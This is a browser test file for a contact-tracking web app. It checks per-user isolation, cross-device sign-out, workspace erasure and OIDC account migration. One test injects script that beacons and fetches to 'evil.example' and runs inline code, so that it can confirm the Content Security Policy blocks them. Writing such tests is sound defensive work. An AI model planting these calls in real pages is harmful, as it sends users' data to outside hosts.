"""Two people on one server, each in their own browser: neither ever gets anything of the other's."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, BrowserContext, WebSocket, expect

from netroi_core.access.guests import CredentialStore, Guests
from netroi_core.storage import Principal
from netroi_core.storage.files.stores import FileEntries, FileStore
from tests.browser.conftest import Server, Visitor, browser_of, guest_cookie
from tests.careers import make_document

pytestmark = pytest.mark.browser


class Person(Visitor):
    """A visitor with a browser of their own, which keeps all that it ever received."""

    def __init__(self, context: BrowserContext, server: Server) -> None:
        self.context, self.server = context, server
        self.received: list[bytes] = []
        page = context.new_page()
        page.on("websocket", self._tap)
        super().__init__(page, server.url)

    def _tap(self, socket: WebSocket) -> None:
        socket.on("framereceived", lambda frame: self.received.append(frame if isinstance(frame, bytes) else b""))

    def arrive(self) -> None:
        """Become a guest, without a page."""
        self.context.request.get(self.server.url, headers={"sec-fetch-dest": "document"})

    @property
    def cookie(self) -> str:
        """The cookie by which the app knows the browser."""
        return str(guest_cookie(self.context))

    @property
    def principal(self) -> Principal:
        """The owner of the workspace that the cookie opens."""
        visitor = Guests(CredentialStore(FileEntries(self.server.data / "access"))).visitor(self.cookie)
        assert visitor is not None
        return Principal("guest", visitor.name)

    def has_received(self, word: str) -> bool:
        """Return True if anything that came had this word."""
        return any(word.encode() in frame for frame in self.received)


@pytest.fixture
def somebody(chromium: Browser) -> Iterator[Callable[[Server], Person]]:
    """A function that gives another person a browser."""
    contexts: list[BrowserContext] = []

    def person(server: Server) -> Person:
        contexts.append(browser_of(chromium))
        return Person(contexts[-1], server)

    yield person
    for context in contexts:
        context.close()


def test_a_page_reaches_no_other_site_and_runs_no_script_but_ours(
    hosted: Server, somebody: Callable[[Server], Person]
) -> None:
    ann = somebody(hosted)
    urls: list[str] = []
    ann.page.on("request", lambda request: urls.append(request.url))
    ann.open("/")
    assert not [url for url in urls if not url.startswith((hosted.url, "data:", "blob:"))]
    ann.page.evaluate(
        """() => {
            new Image().src = 'https://evil.example/beacon';
            fetch('https://evil.example/send').catch(() => 0);
            const script = document.createElement('script');
            script.textContent = 'window.wasRun = true';
            document.body.append(script);
            const frame = document.createElement('iframe');
            frame.srcdoc = '<script>parent.wasRun = true</script>';
            document.body.append(frame);
        }"""
    )
    ann.settle()
    assert ann.page.evaluate("() => window.wasRun") is None
    refused = "".join(ann.errors)
    assert [kind for kind in ("img-src", "connect-src", "script-src") if not re.search(f"[\"']{kind} ", refused)] == []


def test_a_guest_comes_back_by_the_key_is_logged_out_elsewhere_and_deletes_all(
    hosted: Server, somebody: Callable[[Server], Person]
) -> None:
    """One workspace in two browsers: by its key, until the first one logs the other out, and then is gone."""
    store, ann, phone = FileStore(hosted.data), somebody(hosted), somebody(hosted)
    of_others = set(hosted.data.glob("*.json"))
    urls: list[str] = []
    for person in (ann, phone):
        person.page.on("request", lambda request: urls.append(request.url))
    ann.open("/people")
    assert set(hosted.data.glob("*.json")) == of_others, "nothing is stored before the first save"
    ann.add_contact("Canary Lee")
    key = ann.page.get_by_test_id("stCode").inner_text().strip()
    whose = ann.principal
    phone.open("/privacy")
    phone.act(phone.page.get_by_text("Open a workspace with a recovery key").click)
    phone.page.get_by_label("Recovery key", exact=True).fill(key.lower().replace("-", " "))
    with phone.page.expect_navigation(url=f"{hosted.url}/"):
        phone.page.get_by_role("button", name="Open workspace").click()
    assert phone.principal == whose
    assert not [url for url in urls if phone.cookie in url or ann.cookie in url or key[:11].lower() in url.lower()]
    phone.open("/people")
    expect(phone.page.get_by_role("heading", name="1 contact")).to_be_visible()
    ann.open("/privacy")
    with ann.page.expect_navigation(url=f"{hosted.url}/"):
        ann.page.get_by_role("button", name="Sign out everywhere").click()
    phone.tap("Add a contact")  # the run that would unfold the form says so instead
    expect(phone.page.get_by_text("You were signed out of this browser.").first).to_be_visible()
    phone.open("/people")
    assert phone.principal != whose
    expect(phone.page.get_by_role("heading", name="1 contact")).to_have_count(0)
    saved = store.read(whose)
    assert saved is not None
    assert [person["name"] for person in saved.document["contacts"]] == ["Canary Lee"]
    ann.open("/settings")
    ann.unfold("Erase everything")
    ann.act(ann.page.get_by_text("I have a backup, or I don’t need one").click)
    with ann.page.expect_navigation(url=f"{hosted.url}/"):
        ann.page.get_by_role("button", name="Erase everything").click()
    assert ann.principal != whose
    assert set(hosted.data.glob("*.json")) == of_others
    assert not [file for file in hosted.data.rglob("*") if file.is_file() and b"Canary Lee" in file.read_bytes()]


@pytest.fixture
def with_accounts(tmp_path: Path, provider: str) -> Iterator[Server]:
    running = Server(
        tmp_path / "workspaces",
        mode="accounts",
        NETROI_OIDC_URL=f"{provider}/.well-known/openid-configuration",
        NETROI_OIDC_CLIENT_ID="netroi",
        NETROI_OIDC_CLIENT_SECRET="secret",
    )
    with urlopen(f"{provider}/.well-known/openid-configuration") as answer:
        assert answer.status == 200
    yield running
    running.kill()


def sign_in(person: Person, name: str) -> None:
    """By way of the provider, and back."""
    person.open("/privacy")
    person.page.get_by_role("button", name="Sign in", exact=True).click()
    person.page.locator("input[name=sub]").fill(name)
    person.page.get_by_role("button", name="Authorize").click()
    person.page.wait_for_url(f"{person.server.url}/")
    person.page.locator("h1").first.wait_for()
    person.settle()


def test_who_signs_in_takes_the_workspace_along_finds_it_elsewhere_and_logs_out_everywhere(
    with_accounts: Server, provider: str, somebody: Callable[[Server], Person]
) -> None:
    store = FileStore(with_accounts.data)
    ann, phone, bo = (somebody(with_accounts) for _ in range(3))
    ann.arrive()
    as_guest = ann.principal
    store.change(as_guest, lambda _: make_document(contacts=[{"name": "Canary Ann"}]))
    sign_in(ann, "ann@example.com")
    expect(ann.page.get_by_text("Moved your workspace into your account.").first).to_be_visible()
    assert store.read(as_guest) is None
    sign_in(phone, "ann@example.com")
    phone.open("/people")
    expect(phone.page.get_by_role("heading", name="1 contact")).to_be_visible()
    sign_in(bo, "bo@example.com")
    bo.open("/people")
    assert not bo.has_received("Canary")
    ann.open("/privacy")
    expect(ann.page.get_by_text("Signed in as ann")).to_be_visible()
    ann.page.get_by_role("button", name="Sign out everywhere").click()
    ann.page.wait_for_url(f"{provider}/oauth2/end_session*")
    ann.page.get_by_role("button").first.click()
    expect(ann.page.get_by_role("heading", name="NetROI shows what your networking returns")).to_be_visible()
    phone.received.clear()
    phone.tap("Add a contact")  # the run that would unfold the form says so instead
    expect(phone.page.get_by_text("You were signed out of this browser.").first).to_be_visible()
    phone.page.goto(f"{with_accounts.url}/people")
    expect(phone.page.get_by_text("You were signed out of this browser.").first).to_be_visible()
    assert not phone.has_received("Canary")
    assert not bo.has_received("Canary")
